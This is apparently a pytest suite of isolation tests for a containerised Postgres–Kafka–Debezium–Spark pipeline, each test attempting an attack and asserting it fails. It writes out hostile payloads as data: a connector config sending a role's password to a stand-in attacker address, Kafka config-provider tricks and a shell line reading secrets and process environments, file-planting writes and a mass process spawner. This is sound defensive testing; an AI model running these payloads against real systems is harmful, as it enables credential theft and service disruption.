"""Attacks from the containers of a running chain: each asks for what it may not have.

`make test-doors` runs them against the chain of this folder, or of COMPOSE_PROJECT_NAME, once it is up. With
docker-compose.monitoring.yml in COMPOSE_FILE, Grafana's network is tried too; with docker-compose.cluster.yml, the
cluster.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Sequence
from functools import cache
from typing import Any

import pytest

from template.tests.paths import ROOT

pytestmark = pytest.mark.doors

TIMEOUT_S = 300
ATTEMPT_S = 4  # a packet that is dropped has no answer at all

# Prints the addresses, of those given, where a connection is opened.
CONNECT = f"""
import json, socket, sys
opened = []
for host, port in json.loads(sys.argv[1]):
    try:
        socket.create_connection((host, port), timeout={ATTEMPT_S}).close()
    except OSError:
        continue
    opened.append([host, port])
print(json.dumps(opened))
"""

# What a connector's configuration would need to send the password of its role to a server of the attacker.
ATTACK = json.dumps(
    {
        "connector.class": "io.debezium.connector.postgresql.PostgresConnector",
        "name": "attack",
        "topic.prefix": "attack",
        "database.hostname": "203.0.113.1",
        "database.user": "any",
        "database.dbname": "any",
        "database.password": "${env:OUTBOX_SOURCE_DB_CDC_PASSWORD}",
    }
)
VALIDATE = "/connector-plugins/io.debezium.connector.postgresql.PostgresConnector/config/validate"

# Prints the status of each request to Connect, by the login that it sends.
REQUEST = f"""
import base64, json, os, sys, urllib.error, urllib.request
base = os.environ["OUTBOX_CONNECT_URL"]
logins = {{"none": None, "wrong": "outbox:guess", "empty": "outbox:"}}
if len(sys.argv) > 1:
    given = dict(line.strip().split("=", 1) for line in open("/run/secrets/stack.env"))
    logins = {{"right": "outbox:" + given["OUTBOX_CONNECT_PASSWORD"]}}
found = {{}}
for method, path in [("GET", "/"), ("GET", "/connectors"), ("GET", "/admin/loggers"), ("PUT", {VALIDATE!r})]:
    for name, login in logins.items():
        request = urllib.request.Request(base + path, method=method, headers={{"Content-Type": "application/json"}})
        if login is not None:
            request.add_header("Authorization", "Basic " + base64.b64encode(login.encode()).decode())
        if method == "PUT" and name != "right":
            request.data = {ATTACK!r}.encode()
        try:
            status = urllib.request.urlopen(request, timeout=10).status
        except urllib.error.HTTPError as error:
            status = error.code
        found[f"{{method}} {{path}} {{name}}"] = status
print(json.dumps(found))
"""

# Prints what Postgres says to the relay's role, by the kind of replication that it asks for.
REPLICATE = """
import json
import psycopg2
from outbox.base.settings import SourceRole, load
said = {}
for kind in ("true", "database"):
    try:
        psycopg2.connect(**load().dsn(SourceRole.CDC), replication=kind).close()
        said[kind] = None
    except psycopg2.OperationalError as error:
        said[kind] = str(error)
print(json.dumps(said))
"""

# Lets the broker read a value of its own, by a provider that a dynamic configuration names, and prints what it says.
PROVIDER = """
import json, sys
from confluent_kafka import KafkaException
from confluent_kafka.admin import AdminClient, AlterConfigOpType, ConfigEntry, ConfigResource
from outbox.base.settings import load
from outbox.kafka.clients import client_config
admin = AdminClient(client_config(load()))
operation = AlterConfigOpType.SET
said = []
for provider, reference in json.loads(sys.argv[1]):
    values = {
        "config.providers": "any",
        "config.providers.any.class": f"org.apache.kafka.common.config.provider.{provider}",
        "num.io.threads": "${any:" + reference + "}",
    }
    entries = [ConfigEntry(name, value, incremental_operation=operation) for name, value in values.items()]
    resource = ConfigResource(ConfigResource.Type.BROKER, "1", incremental_configs=entries)
    [answer] = admin.incremental_alter_configs([resource], validate_only=True).values()
    try:
        answer.result(timeout=20)
    except KafkaException as error:
        said.append(str(error))
print(json.dumps(said))
"""

READERS = {"FileConfigProvider": "/run/secrets/stack.env:", "EnvVarConfigProvider": ""}
CONTROL = ("FileConfigProvider", "/etc/outbox/broker.properties:listener.security.protocol.map")

WRITE = """
import json, pathlib
written = []
for folder in ("/opt/outbox", "/opt/packages", "/etc", "/usr/local/bin", "/var/lib/outbox"):
    try:
        pathlib.Path(folder).mkdir(exist_ok=True)
        pathlib.Path(folder, "planted").write_text("")
    except OSError as error:
        assert error.strerror in ("Read-only file system", "Permission denied"), error
        continue
    written.append(folder)
print(json.dumps(written))
"""

# Prints how many processes it could start beside itself, and ends them.
FORK = """
import signal, subprocess
started = []
try:
    while len(started) < 2000:
        started.append(subprocess.Popen(["sleep", "60"]))
except OSError:
    pass
for process in started:
    process.kill()
print(len(started))
"""

# A driver that asks the cluster for an executor and runs a task there; with an argument it has the secret.
DRIVE = """
import os, sys
from outbox.jvm.java import java_home
os.environ["JAVA_HOME"] = java_home()
from pyspark.sql import SparkSession
builder = SparkSession.builder.master("spark://spark-master:7077")
builder = builder.config("spark.cores.max", "1").config("spark.executor.memory", "512m")
for line in open("/run/secrets/spark.properties") if len(sys.argv) > 1 else ():
    builder = builder.config(*line.split())
print("ran", builder.getOrCreate().range(3).count())
"""


def docker(*arguments: str, check: bool = True) -> str:
    done = subprocess.run(
        ["docker", *arguments], cwd=ROOT, capture_output=True, text=True, check=False, timeout=TIMEOUT_S
    )
    assert not check or done.returncode == 0, f"docker {' '.join(arguments[:4])}: {done.stdout}{done.stderr}"
    return done.stdout if check else done.stdout + done.stderr


def inside(service: str, program: str, *arguments: str) -> str:
    """Run a Python program in the running container of a service."""
    return docker("compose", "exec", "-T", service, "python", "-c", program, *arguments)


def beside(service: str, program: str, *arguments: str, check: bool = True) -> str:
    """Run a Python program in a container like that of a service, which has ended or runs on demand only."""
    run = ("compose", "run", "--rm", "--no-deps", "-T", "--entrypoint", "python", service)
    return docker(*run, "-c", program, *arguments, check=check)


@cache
def config() -> dict[str, Any]:
    """The chain as Compose knows it."""
    found: dict[str, Any] = json.loads(docker("compose", "--profile", "*", "config", "--format", "json"))
    return found


@cache
def addresses(service: str) -> list[str]:
    """The names of a service and its addresses in every network: an attacker need not ask the name server."""
    [container] = docker("compose", "ps", "--quiet", service).split()
    [inspected] = json.loads(docker("inspect", container))
    of_networks = inspected["NetworkSettings"]["Networks"].values()
    aliases = {alias for network in of_networks for alias in network["Aliases"]}
    return [*sorted(aliases), *(network["IPAddress"] for network in of_networks)]


def targets(**ports: Sequence[int]) -> list[tuple[str, int]]:
    return [(host, port) for service, of in ports.items() for host in addresses(service) for port in of]


def is_part(service: str) -> bool:
    return service in config()["services"]


def test_the_service_gets_a_connection_to_postgres_and_to_no_other_server() -> None:
    servers = targets(kafka=[9092, 9093], connect=[8083], sink=[9400])
    assert json.loads(inside("serve", CONNECT, json.dumps(servers))) == []
    assert json.loads(inside("serve", CONNECT, json.dumps([("postgres", 5432)]))) == [["postgres", 5432]]


def test_a_sink_gets_no_connection_to_connect() -> None:
    assert json.loads(inside("sink", CONNECT, json.dumps(targets(connect=[8083])))) == []
    assert json.loads(inside("sink", CONNECT, json.dumps([("kafka", 9092)]))) == [["kafka", 9092]]


def test_grafana_gets_a_connection_to_prometheus_and_to_nothing_else() -> None:
    if not is_part("grafana"):
        pytest.skip("docker-compose.monitoring.yml is not in COMPOSE_FILE")
    [network] = config()["services"]["grafana"]["networks"]
    run = ("run", "--rm", "--network", config()["networks"][network]["name"])
    image = config()["services"]["serve"]["image"]
    asked = targets(postgres=[5432], kafka=[9092], connect=[8083], serve=[8080], sink=[9400])
    tried = json.dumps([*asked, ("prometheus", 9090)])
    assert json.loads(docker(*run, image, "python", "-c", CONNECT, tried)) == [["prometheus", 9090]]


def test_connect_answers_nobody_without_its_password() -> None:
    answers = json.loads(beside("apply", REQUEST))
    assert len(answers) == 12
    assert set(answers.values()) == {401}, answers
    assert json.loads(beside("apply", REQUEST, "right"))["GET /connectors right"] == 200


def test_the_role_of_the_relay_is_no_standby() -> None:
    said = json.loads(beside("apply", REPLICATE))
    assert "no pg_hba.conf entry for replication connection" in (said["true"] or "")
    assert said["database"] is None


def test_the_broker_has_no_secret_that_a_client_could_let_it_read() -> None:
    known = docker("compose", "run", "--rm", "--no-deps", "-T", "secrets", "cat", "/var/lib/secrets/all/stack.env")
    secrets = dict(line.split("=", 1) for line in known.splitlines())
    asked = [(provider, f"{place}{name}") for name in secrets for provider, place in READERS.items()]
    said = json.loads(inside("sink", PROVIDER, json.dumps([*asked, CONTROL])))
    assert "PLAINTEXT" in said.pop(), "this is how it answers"
    assert len(said) == len(asked)
    assert not [secret for secret in secrets.values() if secret in "".join(said)]
    everything = "cat /proc/[0-9]*/environ /opt/kafka/config/* /mnt/shared/config/* /run/secrets/* 2> /dev/null; true"
    readable = docker("compose", "exec", "-T", "kafka", "sh", "-c", everything)
    assert "KAFKA_LISTENERS" in readable
    assert not [secret for secret in secrets.values() if secret in readable]


@pytest.mark.parametrize("service", ["serve", "sink"])
def test_a_container_changes_nothing_of_its_image(service: str) -> None:
    assert json.loads(inside(service, WRITE)) == []


def test_a_container_has_so_many_processes_and_no_more() -> None:
    assert int(beside("migrate", FORK)) < 256


def test_a_cluster_runs_nothing_for_a_driver_without_its_secret() -> None:
    if not is_part("spark-master"):
        pytest.skip("docker-compose.cluster.yml is not in COMPOSE_FILE")
    said = beside("outbox", DRIVE, check=False)
    assert "ran 3" not in said
    assert "All masters are unresponsive" in said
    assert "ran 3" in beside("outbox", DRIVE, "secret")
